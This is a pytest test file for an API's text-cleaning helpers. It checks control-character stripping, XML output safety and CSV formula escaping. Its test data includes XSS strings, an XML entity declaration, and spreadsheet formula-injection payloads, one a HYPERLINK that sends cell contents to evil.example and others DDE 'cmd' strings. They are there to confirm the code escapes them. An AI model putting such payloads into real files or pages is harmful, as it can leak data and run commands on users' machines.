"""Free text in and out (api/core/text.py): what the input rules strip and keep, what XML and CSV
output make of any stored string, and a parser reading XML written from every code point."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from typing import Any

import pytest

from api.core.text import clean_line, clean_text, csv_cell, json_safe, xml_text
from api.services.assessment import Counts, finish, to_csv
from api.services.open311 import to_xml
from api.services.routing import WeightsConfig

KEPT = [
    "违章停放 红钢城-01 建设二路 56 号",
    "👨\u200d👩\u200d👧 🚗💨 (ZWJ sequence and emoji)",
    "שלום\u200fעולם مرحبا",  # right-to-left scripts and an RLM mark
    "]]><script>alert('x')</script> & \"quotes\" 'apostrophes'",  # markup is the writer's business
    "＝１＋１ full-width signs",
    "\ue000 private use, \ufffd replacement, \U0001f600 astral",
]


@pytest.mark.parametrize("text", KEPT)
def test_ordinary_text_passes_unchanged(text: str) -> None:
    assert clean_text(text) == text
    assert clean_line(text) == text
    assert xml_text(text) == text


@pytest.mark.parametrize(
    ("raw", "multi_line", "single_line"),
    [
        ("a\x00b", "ab", "ab"),
        ("bell\x07 esc\x1b[31m", "bell esc[31m", "bell esc[31m"),
        ("\x01\x02\x03\x04\x05\x06\x08\x0e\x0f\x10\x1a\x1f", "", ""),
        ("del\x7f", "del", "del"),
        ("c1\x80\x84\x86\x9b\x9f", "c1", "c1"),
        ("line1\r\nline2\rline3\nline4", "line1\nline2\nline3\nline4", "line1 line2 line3 line4"),
        ("vt\x0bff\x0cnel\x85ls\u2028ps\u2029end", "vt\nff\nnel\nls\nps\nend", "vt ff nel ls ps end"),
        ("col\tcol", "col\tcol", "col col"),
        ("a\r\n\t b", "a\n\t b", "a  b"),
        ("lo\ud800ne \udfffsurrogates", "lone surrogates", "lone surrogates"),
        ("x\ufffe\uffff\ufdd0\ufdef\U0001fffe\U0010ffffy", "xy", "xy"),
        (
            "\u202eevil\u202c and \u2066isolate\u2069 \u202a\u202b\u202d",
            "evil and isolate",
            "evil and isolate",
        ),
        ("\ufeffbom", "bom", "bom"),
        ("cafe\u0301", "café", "café"),  # NFC
        ("  \n padded \t\n", "padded", "padded"),
        ("\x00\x01 \u202e", "", ""),
    ],
)
def test_controls_are_stripped_on_the_way_in(raw: str, multi_line: str, single_line: str) -> None:
    assert clean_text(raw) == multi_line
    assert clean_line(raw) == single_line
    assert clean_text(multi_line) == multi_line  # idempotent
    assert clean_line(single_line) == single_line


@pytest.mark.parametrize(
    ("stored", "written"),
    [
        ("\x00\x01\x08\x0b\x0c\x0e\x1f", ""),
        ("\t\n\r", "\t\n\r"),
        ("\x7f\x85\x9f", "\x7f\x85\x9f"),  # legal in XML 1.0 (discouraged, not forbidden)
        ("a\ud800b\udc00c", "abc"),
        ("\ufffe\uffff", ""),
        ("\ufffd\U0010fffe", "\ufffd\U0010fffe"),
        ("]]>&<", "]]>&<"),
    ],
)
def test_xml_text_drops_only_what_xml_cannot_hold(stored: str, written: str) -> None:
    assert xml_text(stored) == written


def _parsed_description(text: str) -> str:
    xml = to_xml("service_requests", "request", [{"description": text, "address": None, "flag": True}])
    node = ET.fromstring(xml).find("request/description")
    assert node is not None
    return node.text or ""


def _as_read(text: str) -> str:
    """What a parser reads back for ``text`` written as XML (end-of-line handling: CR -> LF)."""
    return xml_text(text).replace("\r\n", "\n").replace("\r", "\n")


HOSTILE = [
    "".join(chr(c) for c in range(0x20)) + "\x7f",
    "\ud800 lone high, \udfff lone low",
    "\ufffe\uffff noncharacters",
    "🚨 emoji \u202e RTL override \u2066 isolate",
    "]]> CDATA end, <script>alert(1)</script>, &amp; &, \"double\" 'single'",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e 'boom'>]>&e;",
    "line\r\nbreaks\rand\nmore\x85\u2028",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_open311_xml_parses_for_hostile_stored_text(text: str) -> None:
    assert _parsed_description(text) == _as_read(text)


def test_open311_xml_parses_for_every_code_point() -> None:
    every = "".join(chr(c) for c in range(0x110000))
    assert _parsed_description(every) == _as_read(every)
    assert len(_as_read(every)) == 0x110000 - 0x800 - 2 - 29  # surrogates, U+FFFE/FFFF, 29 C0 controls


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("红钢城-01", "红钢城-01"),
        ("G=1", "G=1"),
        ("", ""),
        (-1.5, -1.5),  # numbers are numbers
        (3, 3),
        (None, None),
    ],
)
def test_csv_cells_that_start_like_a_formula_are_escaped(cell: Any, written: Any) -> None:
    assert csv_cell(cell) == written


def test_assessment_csv_escapes_formula_keys_and_reads_back() -> None:
    keys = ['=HYPERLINK("http://x","y")', "+1", "-1", "@A1", "\t=1", "红钢城-01"]
    rows = [
        finish(k, f"{k} name", Counts(dispatched=1, due=1, overdue_pending=1), WeightsConfig()) for k in keys
    ]
    text = to_csv(rows)
    table = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert len(table) == len(keys) + 1
    for key, line in zip(keys, table[1:], strict=True):
        escaped = key if key == "红钢城-01" else "'" + key
        assert (line[1], line[2]) == (escaped, csv_cell(f"{key} name"))
        assert line[3] == "30.0"  # a number stays a number


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("a\ud800b", "a\ufffdb"),
        ({"k\udc00": ["x\ud800", 1, None]}, {"k\ufffd": ["x\ufffd", 1, None]}),
        (("t\ud800",), ["t\ufffd"]),
        ("ok \x00 \u202e", "ok \x00 \u202e"),  # JSON escapes controls itself
        ({"input": float("nan")}, {"input": "nan"}),  # a body's NaN echoed in a 422
        ([float("inf"), float("-inf"), 1.5], ["inf", "-inf", 1.5]),
    ],
)
def test_json_safe_makes_lone_surrogates_encodable(value: Any, safe: Any) -> None:
    assert json_safe(value) == safe
    json.dumps(json_safe(value), ensure_ascii=False, allow_nan=False).encode("utf-8")  # raises if one is left
